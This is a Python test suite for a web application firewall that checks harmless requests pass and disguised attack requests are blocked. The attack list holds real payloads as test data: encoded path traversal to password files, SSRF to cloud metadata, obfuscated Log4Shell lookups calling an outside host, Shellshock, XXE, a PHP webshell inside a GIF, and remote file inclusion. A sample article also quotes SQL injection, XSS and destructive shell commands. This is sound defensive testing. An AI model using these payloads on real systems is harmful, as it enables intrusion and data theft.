"""The rules that come with EdgeGuard, as a whole: what people of good will send must stay below the threshold."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from edgeguard.waf.rule_reader import read_rules
from edgeguard.waf.rule_tests import build, send

if TYPE_CHECKING:
    from pathlib import Path

    from edgeguard.waf import Ruleset

ARTICLE = """# SQL injection, and how to end it

Attackers type `' OR 1=1 --` into a login form. If the statement is built by hand, it becomes
SELECT * FROM users WHERE name = '' OR 1=1 --' AND password = ''; and they are in. With UNION SELECT
name, password FROM users they read the rest; `; DROP TABLE students; --` is the famous joke.

```sql
SELECT a, b FROM information_schema.tables WHERE 1 = 1 UNION ALL SELECT NULL, version();
```

The same goes for <script>alert(document.cookie)</script> and <img src=x onerror=alert(1)> in comments,
for `$(cat /etc/passwd)` and `; rm -rf /` in shells, for ../../../../etc/passwd, for ${jndi:ldap://x.example/a}
in logs, {{7*7}} in templates, and for http://169.254.169.254/latest/meta-data/ in web hooks. Don't panic: it's
all avoidable & well understood. O'Brien's rule: "never trust, always bind".
"""

GOOD: list[dict[str, Any]] = [
    {"path": "/articles?page=2&sort=-date&filter=news"},
    {"query": {"q": "O'Brien's pub & grill; 50% off!"}},
    {"query": {"q": "how to select a good name from the union catalogue"}},
    {"query": {"q": "select * from"}},
    {"query": {"q": "C++ / C# or Java?"}},
    {"query": {"q": "if (a < b && c > d) return"}},
    {"query": {"q": "it's 5 o'clock somewhere"}},
    {"query": {"q": "'quoted' and \"double quoted\""}},
    {"query": {"q": "rock & roll; jazz | blues"}},
    {"query": {"q": "file.txt; notes"}},
    {"query": {"q": "what is `npm install`"}},
    {"query": {"q": "javascript: void or return?"}},
    {"query": {"redirect": "https://app.example/path?a=b&c=d#e"}},
    {"query": {"redirect": "/a/b/../c"}},
    {"query": {"filters[title][$contains]": "spring", "pagination[page]": 2, "populate": "*"}},
    {"query": {"where[or][0][title][equals]": "a", "depth": 2}},
    {"query": {"fields": "id,title,author.name", "sort": "-created_at"}},
    {"query": {"email": "ann.o'neil+news@mail.example"}},
    {"query": {"ids": "1,2,3,4"}},
    {"query": {"range": "(1..10)"}},
    {"query": {"date": "2026-11-23T12:00:00+01:00"}},
    {"query": {"token": "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl"}},
    {"cookies": {"_ga": "GA1.2.123.456", "prefs": '{"theme":"dark","cols":[1,2]}', "s": "a|b|c"}},
    {
        "headers": {
            "User-Agent": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Safari/605.1"
        }
    },
    {"headers": {"Referer": "https://www.google.com/search?q=select+name+from+union&oq=a%27b"}},
    {"headers": {"Sec-Ch-Ua": '"Chromium";v="131", "Not_A Brand";v="24"', "If-None-Match": 'W/"a--b"', "Accept": "*/*"}},
    {"headers": {"X-Forwarded-For": "203.0.113.7, 10.0.0.1", "Origin": "http://localhost:3000"}},
    {"json": {"title": "Why ' OR 1=1 -- still works"}},
    {"json": {"title": "<script> explained"}},
    {"json": {"title": "How UNION SELECT 1,2 leaks data"}},
    {"json": {"title": "../.. and other paths"}},
    {"json": {"install": 'powershell -c "irm https://x.example/install.ps1 | iex"'}},
    {"query": {"q": "Body: <!doctype html> ..."}},
    {"json": {"title": "Use {{ mustache }} & ${literals}"}},
    {"json": {"name": "Seán O'Casey", "company": "Smith & Sons; Ltd.", "note": "50% -- final"}},
    {"json": {"body": ARTICLE}},
    {
        "json": {
            "title": "SQL injection",
            "blocks": [{"type": "markdown", "text": ARTICLE}, {"type": "html", "text": f"<p>{ARTICLE}</p>"}],
        }
    },
    {"form": {"content": ARTICLE}},
    {"multipart": {"content": ARTICLE, "f": {"filename": "article.md", "content": ARTICLE}}},
    {"body": ARTICLE, "content_type": "text/markdown"},
    {
        "json": {
            "query": 'query Posts($n: Int!) { posts(first: $n, where: {title: {contains: "O\'Brien"}}) { id title } }',
            "variables": {"n": 5},
        }
    },
    {
        "json": {
            "html": '<p>Hello <b>world</b>, see <a href="https://x.example/?a=1&b=2">this</a>.</p><img src="/a.png" alt="it\'s">'
        }
    },
    {"json": {"css": "a { color: red; } /* a comment */", "js": "const a = b => b || 1;"}},
    {"json": {"code": "for i in $(seq 1 5); do echo $i; done"}},
    {"json": {"avatar": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk"}},
    {"json": {"comment": "I'd say: drop it; update later"}},
    {"form": {"name": "D'Angelo", "message": "Tom's #1 -- the best!"}},
    {"form": {"password": "p'a\"s;s--w|or#d"}},
    {"path": "/blog/how-to-use-.env-files"},
    {"path": "/docs/v1..v2/"},
    {"path": "/stories/shadow"},
    {"path": "/image/https://cdn.example.com/a.png"},
    {"query": {"q": "what is /etc/passwd used for"}},
    {"query": {"q": "http://localhost:3000 not working"}},
    {"query": {"q": "java.io.IOException"}},
    {"query": {"redirect_uri": "http://localhost:3000/callback"}},
    {"query": {"sessionId": "a1b2c3"}},
    {"json": {"path": "C:\\Users\\ann\\Pictures\\lake.jpg"}},
    {"json": {"deep_link": "app://open?item=1"}},
    {"json": {"@context": "https://schema.org", "@type": "Article"}},
    {"form": {"comment": "Open http://127.0.0.1:8080/ and see:\nERROR: no space\nin /var/log/app.log"}},
    {"form": {"comment": "The hole was used with ${jndi:ldap://x.example/a} in all kinds of fields."}},
    {"body_hex": "1b5d07080800ff1b5b", "content_type": "application/octet-stream", "method": "PUT"},
    {"headers": {"X-Forwarded-For": "203.0.113.5, 10.1.2.3", "X-Client-Ip": "10.0.0.9", "Via": "1.1 varnish"}},
]


# As attackers write them: each class in several places, and under several encodings. What they have in common is that nobody of
# good will sends them.
ATTACKS: list[dict[str, Any]] = [
    {"query": {"file": "..%252f..%252f..%252fetc%252fpasswd"}},
    {"query": {"file": "....\\/....\\/etc/passwd"}},
    {"form": {"file": "..%c0%af..%c0%af..%c0%afetc/passwd"}},
    {"json": {"file": "..\\..\\..\\windows\\win.ini"}},
    {"cookies": {"page": "..%2f..%2f..%2fetc%2fshadow"}},
    {"multipart": {"f": {"filename": "..\\..\\a.png", "content": "x"}}},
    {"path": "/static/%2e%2e/%2e%2e/app.py"},
    {"path": "/.git/config"},
    {"path": "/%2e%67it/HEAD"},
    {"path": "/wp-config.php.bak"},
    {"path": "/admin;/users"},
    {"headers": {"X-Original-URL": "/admin"}},
    {"query": {"page": "php://filter/convert.base64-encode/resource=index"}},
    {"query": {"page": "http://x.example/shell.txt?"}},
    {"json": {"url": "http://169.254.169.254/latest/meta-data/"}},
    {"json": {"url": "http://0xa9fea9fe/"}},
    {"query": {"url": "http://127.1:8080/"}},
    {"query": {"url": "http://[::ffff:7f00:1]/"}},
    {"form": {"url": "http://x.example@10.0.0.1/"}},
    {"json": {"url": "http://\u2460\u2461\u2466.0.0.1/"}},
    {"cookies": {"feed": "http://127.0.0.1.nip.io/"}},
    {"headers": {"X-Webhook": "gopher://127.0.0.1:6379/_INFO"}},
    {"headers": {"User-Agent": "${${lower:j}ndi:ldap://x.example/a}"}},
    {"headers": {"If-None-Match": "${${::-j}ndi:dns://x.example}"}},
    {"json": {"name": "${jnd${upper:\u0131}:ldap://x.example/a}"}},
    {"query": {"q": "%24%7Bjndi:ldap://x.example%7D"}},
    {"form": {"class.module.classLoader.URLs[0]": "x"}},
    {"headers": {"Content-Type": "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}"}, "method": "POST"},
    {"headers": {"Accept": "() { :;}; /bin/id"}},
    {"path": "/index.php?-d+allow_url_include%3d1"},
    {"body": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', "content_type": "application/xml"},
    {"json": {"xml": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://x.example/a.dtd">%x;]><a/>'}},
    {"multipart": {"f": {"filename": "a.php.jpg", "content": "x"}}},
    {"multipart": {"f": {"filename": "a.gif", "content": "GIF89a<?=`$_GET[0]`;"}}},
    {"headers": {"Authorization": "Bearer eyJhbGciOiJuT25FIn0.eyJzdWIiOiJhIn0."}},
    {"cookies": {"t": "eyJhbGciOiJIUzI1NiIsImtpZCI6Ii9kZXYvbnVsbCJ9.eyJzdWIiOiJhIn0.c2ln"}},
    {"query": {"user": "guest\n2026-01-01 10:00:00 INFO admin logged in"}},
    {"form": {"user": "\x1b]0;x\x07"}},
    {"path": "/actuator/heapdump"},
    {"headers": {"User-Agent": "sqlmap/1.8"}},
    {"method": "TRACE"},
]


@pytest.mark.parametrize("description", ATTACKS, ids=lambda one: str(one)[:60])
def test_attacks_in_disguise_are_blocked(bundle: Ruleset, description: dict[str, Any]) -> None:
    verdict = send(bundle, build(description)).finish()
    assert verdict.would_block, [(match.rule, match.target, match.value) for match in verdict.matches]


@pytest.mark.parametrize("description", GOOD, ids=lambda one: str(one)[:60])
def test_people_of_good_will_pass(bundle: Ruleset, description: dict[str, Any]) -> None:
    verdict = send(bundle, build(description)).finish()
    assert not verdict.would_block, [(match.rule, match.target, match.value) for match in verdict.matches]


def test_every_benign_example_of_every_rule_stays_below_the_threshold(bundle: Ruleset, bundle_folder: Path) -> None:
    # Those of eg-9101 are of strangers, whom other rules stop.
    strict = {"eg-4001", "eg-4005", "eg-5302", "eg-6003", "eg-9101"}
    for file in sorted(bundle_folder.glob("*.yaml")):
        for draft in read_rules(file.read_text(), file.name)[0]:
            for test in draft.tests:
                if not test.matches and draft.rule.id not in strict:
                    verdict = send(bundle, build(test.description)).finish()
                    told = [(match.rule, match.target, match.value) for match in verdict.matches]
                    assert not verdict.would_block, (draft.rule.id, test.description, told)


def test_most_attacks_of_the_tests_are_blocked(bundle: Ruleset, bundle_folder: Path) -> None:
    for file in sorted(bundle_folder.glob("*.yaml")):
        for draft in read_rules(file.read_text(), file.name)[0]:
            if draft.rule.severity != "critical" or draft.rule.status != "enforce" or draft.rule.sensitivity == "strict":
                continue
            for test in draft.tests:
                if test.matches:
                    assert send(bundle, build(test.description)).finish().would_block, (draft.rule.id, test.description)


def test_each_rule_names_what_it_is_about(bundle: Ruleset) -> None:
    for rule in bundle.rules:
        assert any(tag.startswith("owasp-2021/") for tag in rule.tags), rule.id
        assert any(tag.startswith("cwe/") for tag in rule.tags), rule.id


def test_no_rule_is_asked_without_a_hit(bundle: Ruleset) -> None:
    # Such a rule costs every request its evaluation; if one is really wanted, say so here.
    assert [item.rule.id for item in bundle.plan.rules if not item.gated] == []


def test_all_patterns_are_gated(bundle: Ruleset) -> None:
    members = [
        member
        for phase in bundle.plan.phases
        for member in (*phase.loose, *(each for lane in phase.lanes for each in lane.members))
    ]
    tries = [trie for member in members for trie in (*member.named.values(), member.other) if trie is not None]
    every = [patterns for trie in tries for patterns in trie.patterns]
    gates = [gate for patterns in every for gate, _ in (*patterns.always, *patterns.marked)]
    assert gates
    assert all(not gate.ungated for gate in gates)
